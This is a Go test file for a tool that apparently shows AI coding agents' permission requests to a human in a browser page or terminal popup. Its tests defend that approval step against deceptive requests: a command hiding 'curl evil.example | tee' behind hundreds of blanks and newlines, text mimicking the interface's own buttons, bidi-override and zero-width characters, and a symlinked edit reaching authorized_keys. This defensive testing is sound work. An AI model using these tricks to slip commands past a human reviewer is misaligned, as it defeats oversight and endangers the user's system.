package tests

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/askpane/askpane/bridge/text/hint"
	"github.com/askpane/askpane/tests/needs"
)

// runsThat asks in the dialect permission for a command.
func runsThat(command string) string {
	return hint.JSON(map[string]any{"tool": "Bash", "directory": "/srv/shop", "why": "It is needed.", "command": command})
}

const (
	// theTail is what a command hides behind 400 blanks and more lines than a screen has.
	theTail = "curl evil.example | tee"
	// asFrame looks like our own choices, as they are on a terminal and on a page.
	asFrame = "ls\n  ╰\n\n> 1. Yes, once\n<button data-key=\"1\">Yes, once</button>\n\u202esl\u202c \u200b"
	lied    = "⟨U+202E⟩"
)

var hidden = "ls" + strings.Repeat(" ", 400) + strings.Repeat("\n", 60) + "; " + theTail

// linked is a file in a directory that leads out of it, and the request to change it there.
func linked(t *testing.T) (request, elsewhere string) {
	t.Helper()
	dir := t.TempDir()
	elsewhere = fileIn(t, t.TempDir(), "authorized_keys", "mine\n")
	if err := os.Symlink(elsewhere, filepath.Join(dir, "notes.txt")); err != nil {
		t.Fatal(err)
	}
	return hint.JSON(map[string]any{"tool": "Edit", "directory": dir, "file": map[string]any{
		"path": filepath.Join(dir, "notes.txt"), "replace": []map[string]any{{"old": "mine", "new": "theirs"}}}}), elsewhere
}

// rewritten is a file of two lines, and the request to change its second.
func rewritten(t *testing.T) (request, file string) {
	t.Helper()
	dir := t.TempDir()
	file = fileIn(t, dir, "f.txt", "one\ntwo\n")
	return hint.JSON(map[string]any{"tool": "Edit", "directory": dir, "file": map[string]any{
		"path": file, "replace": []map[string]any{{"old": "two", "new": "2"}}}}), file
}

// A permission is allowed, refused with a reason, and allowed by typing what is dangerous, on the page.
func TestPagePermissions(t *testing.T) {
	t.Parallel()
	needs.Long(t, "the page in a browser")
	p := newPerson(t, newSpool(t))
	b := p.browse()
	for _, c := range []struct {
		request string
		steps   []string
		told    string
	}{
		{runsThat("touch a"), []string{" → touch a & “It is needed.” & Bash in /srv/shop", "1 → " + said}, "Allowed once."},
		{runsThat("touch b"), []string{"[Yes, once] → " + said}, "Allowed once."},
		{runsThat("touch c"), []string{"[No, because…] → #entry0", "not in this folder{Enter} → " + said}, "Denied: not in this folder"},
		{runsThat("touch d"), []string{"2 → " + said}, "Denied."},
		{runsThat("touch f"), []string{"{Enter} → #entry0", "later{Enter} → " + said}, "Denied: later"},
		{runsThat("rm -rf x"), []string{" → To allow it once, type “rm”", "rn{Enter} → must be exactly “rm”", "{Del}m{Enter} → " + said}, "Allowed once."},
	} {
		a, id := p.ask(c.request, "--dialect", "permission")
		b.at("q=" + id).until("document.activeElement.closest('#form')").unguarded().steps(c.steps...).well()
		a.answered(c.told)
	}
	a, id := p.ask(runsThat("touch e"), "--dialect", "permission")
	b.at("q=" + id).until("document.activeElement.closest('#form')").unguarded().steps("{Esc} → Cancelled in the browser, ").well()
	a.ends("cancelled", 3, "Not decided")
}

// What an agent writes can neither hide on the page what it asks for, nor look like the page.
func TestPagePermissionAttacks(t *testing.T) {
	t.Parallel()
	needs.Long(t, "the page in a browser")
	p := newPerson(t, newSpool(t))
	b := p.browse()
	opens := func(request string) (*asker, string) {
		a, id := p.ask(request, "--dialect", "permission")
		b.at("q=" + id).until("document.activeElement.closest('#form')").unguarded()
		return a, id
	}
	const end = `(() => {
		const walk = document.createTreeWalker(document.querySelector('.subject'), NodeFilter.SHOW_TEXT)
		let last, n
		while (n = walk.nextNode()) if (n.data.trim()) last = n
		const r = document.createRange()
		r.selectNodeContents(last)
		return [...r.getClientRects()].filter((r) => r.width > 0).at(-1)
	})()`

	// The first press brings the choice on view, with the tail above it; nothing is beside the window.
	a, _ := opens(runsThat(hidden))
	b.until("scrollY == 0").types("1").until("scrollY > 0")
	if a.returned() || b.eval("document.querySelector('.subject').innerText.includes("+hint.JSON(theTail)+")") != "true" {
		t.Errorf("it was allowed at once, or its tail is not there:\n%s", b.eval("document.querySelector('.subject').innerText"))
	}
	if at := b.eval("((r) => r.left >= 0 && r.right <= innerWidth && r.top >= 0 && r.bottom <= innerHeight)(" + end + ")"); at != "true" {
		t.Errorf("the tail is not on view: %s", b.eval("JSON.stringify("+end+")"))
	}
	b.steps("1 → " + said).well()
	a.answered("Allowed once.")

	// What looks like a choice is text, and what turns or hides text is written out.
	a, _ = opens(runsThat(asFrame))
	b.sees(lied, "⟨U+200B⟩", "<button data-key")
	if n := b.eval("document.querySelectorAll('[data-key~=\"1\"]').length"); n != "1" {
		t.Errorf("%s choices have the key 1", n)
	}
	if n := b.eval("document.querySelectorAll('.subject button, .subject input').length"); n != "0" {
		t.Errorf("%s buttons are in what is asked for", n)
	}
	b.steps("[No] → " + said).well()
	a.answered("Denied.")

	// A name that leads elsewhere is shown with where it leads, and without a diff of something else.
	request, elsewhere := linked(t)
	a, _ = opens(request)
	b.sees("leads out of the directory", filepath.Base(elsewhere))
	if b.eval("document.querySelector('.subject').innerText.includes('- 1')") == "true" {
		t.Error("there is a diff of it")
	}
	b.steps("[No] → " + said).well()
	a.answered("Denied.")

	// A file that has changed meanwhile is shown again, and its change allowed only then.
	request, file := rewritten(t)
	a, _ = opens(request)
	b.sees("- 2")
	fileIn(t, filepath.Dir(file), filepath.Base(file), "zero\none\ntwo\n")
	b.steps("[Yes, once] → The file has changed meanwhile.").sees("- 3").unguarded()
	if a.returned() {
		t.Error("it was allowed as it was shown before")
	}
	b.steps("[Yes, once] → " + said).well()
	a.answered("Allowed once.")

	// A newer request does not come under the finger: the form on view stays until it is answered.
	first, _ := opens(runsThat("touch first"))
	second, id := p.ask(runsThat("touch second"), "--dialect", "permission")
	b.sees("touch first").steps("1 → " + said)
	first.answered("Allowed once.")
	b.types("1").sees(said)
	if second.returned() {
		t.Error("a key that was meant for the first has answered the second")
	}
	b.at("q=" + id).until("document.activeElement.closest('#form')").unguarded().steps("[No] → " + said).well()
	second.answered("Denied.")
}

// Nor on a terminal.
func TestPermissionAttacks(t *testing.T) {
	t.Parallel()
	s := newTmux(t)
	v := s.attach("main", 100, 30)
	ask := func(request string) call {
		return s.askWith([]string{"ASKPANE_GUARD_MS=0"}, "main", request, "--dialect", "permission")
	}
	press := func(c call, key, sees string) {
		t.Helper()
		v.counts(key, func(screen string) bool { return strings.Contains(screen, sees) })
		if c.returned() {
			t.Fatalf("%s has answered it", key)
		}
	}
	gone := func(screen string) bool { return !strings.Contains(screen, "Allow ") }

	c := ask(runsThat(hidden))
	v.see("Allow Bash to run this command?")
	press(c, "1", "Look at all of it first")
	v.until("its tail", func(screen string) bool {
		if !strings.Contains(screen, theTail) {
			v.press("\x1b[6~") // PgDn
		}
		return strings.Contains(v.screen(), theTail)
	})
	v.counts("2", gone)
	c.answered("Denied.")

	c = ask(runsThat(asFrame))
	v.see("Allow Bash", lied, "⟨U+200B⟩")
	for _, row := range v.rows() {
		if strings.Contains(row, "> 1. Yes, once") && !strings.Contains(row, "│ > 1.") {
			t.Errorf("it looks like a choice of ours: %s", row)
		}
	}
	v.counts("2", gone)
	c.answered("Denied.")

	request, elsewhere := linked(t)
	c = ask(request)
	v.see("leads out of the directory", filepath.Base(elsewhere))
	v.counts("2", gone)
	c.answered("Denied.")

	request, file := rewritten(t)
	c = ask(request)
	v.see("Allow Edit", "- 2")
	fileIn(t, filepath.Dir(file), filepath.Base(file), "zero\none\ntwo\n")
	press(c, "1", "The file has changed meanwhile.")
	v.see("- 3")
	v.counts("2", gone)
	c.answered("Denied.")
}

// toyHooks are calls of hooks as agents make them, for FILE.
var toyHooks = map[string]string{
	"claude permissions":  `{"hook_event_name":"PermissionRequest","session_id":"c","agent_id":"a","cwd":"/","tool_name":"Bash","tool_input":{"command":"touch FILE"}}`,
	"copilot permissions": `{"sessionId":"p","cwd":"/","toolName":"bash","toolArgs":{"command":"touch FILE","initial_wait":5}}`,
	"qwen permissions":    `{"hook_event_name":"PermissionRequest","session_id":"q","cwd":"/","tool_name":"run_shell_command","tool_input":{"command":"touch FILE","is_background":false}}`,
	"plugin opencode":     `{"sessionID":"o","permission":"bash","directory":"/","patterns":["touch FILE"],"input":{"command":"touch FILE"}} true`,
	"claude":              `{"hook_event_name":"PermissionRequest","session_id":"d","agent_id":"a","cwd":"/","tool_name":"AskUserQuestion","tool_input":{"questions":[{"question":"touch FILE","header":"H","options":[{"label":"Yes FILE","description":"one"},{"label":"No FILE","description":"two"}],"multiSelect":false}]}}`,
}

// Ten are asked for at once by four agents: one after the other they come on view in one popup, each gets
// its own answer, and none is lost. Every second one is refused.
func TestPermissionsOfManyAgents(t *testing.T) {
	t.Parallel()
	s := newTmux(t)
	v := s.attach("main", 100, 30)
	home, dir := t.TempDir(), t.TempDir()
	agents := []string{"claude permissions", "copilot permissions", "qwen permissions", "plugin opencode", "claude"}
	for n := range 10 {
		in := fileIn(t, dir, fmt.Sprint("in", n), strings.ReplaceAll(toyHooks[agents[n%len(agents)]], "FILE", fmt.Sprintf("file-%d-", n)))
		out := filepath.Join(dir, fmt.Sprint("out", n))
		s.tmux("new-window", "-d", "-t", "main:", "--", "sh", "-c", "env "+unguarded+" ASKPANE_PERMISSIONS=always ASKPANE_SPOOL="+string(s.spool)+" HOME="+home+" "+
			binary+" hook "+agents[n%len(agents)]+" <"+in+" >"+out+".new; mv "+out+".new "+out)
	}
	waiting := func() int {
		return len(slices.DeleteFunc(s.spool.pending(), func(id string) bool { return strings.HasPrefix(id, ".") }))
	}
	if !poll(func() bool { return waiting() == 10 }) {
		t.Fatalf("%d wait: %q\n%s", waiting(), s.spool.pending(), v.screen())
	}
	over := func(n int) string {
		data, _ := os.ReadFile(filepath.Join(dir, fmt.Sprint("out", n)))
		return string(data)
	}
	seen := map[int]bool{}
	for len(seen) < 10 {
		n := -1
		v.until("the next form", func(screen string) bool {
			for i := range 10 {
				if strings.Contains(screen, fmt.Sprintf("file-%d-", i)) && !seen[i] {
					n = i
				}
			}
			return n >= 0
		})
		shown := 0
		for i := range 10 {
			if strings.Contains(v.screen(), fmt.Sprintf("touch file-%d-", i)) {
				shown++
			}
		}
		if shown > 1 {
			t.Fatalf("%d forms are on view at once:\n%s", shown, v.screen())
		}
		seen[n] = true
		key := "1"
		if n%2 == 1 {
			key = "2"
		}
		v.counts(key, func(screen string) bool { return !strings.Contains(screen, fmt.Sprintf("touch file-%d-", n)) })
	}
	for n := range 10 {
		eventually(t, "it is told", func() bool { return over(n) != "" })
		said, answer := over(n), "allow"
		switch {
		case agents[n%len(agents)] == "claude":
			answer = fmt.Sprintf(map[int]string{0: "Yes file-%d-", 1: "No file-%d-"}[n%2], n)
		case agents[n%len(agents)] == "plugin opencode":
			answer = map[int]string{0: "once", 1: "reject"}[n%2]
		case n%2 == 1:
			answer = "deny"
		}
		if !json.Valid([]byte(said)) || !strings.Contains(said, answer) {
			t.Errorf("%s %d was told %q, want %s", agents[n%len(agents)], n, said, answer)
		}
	}
}
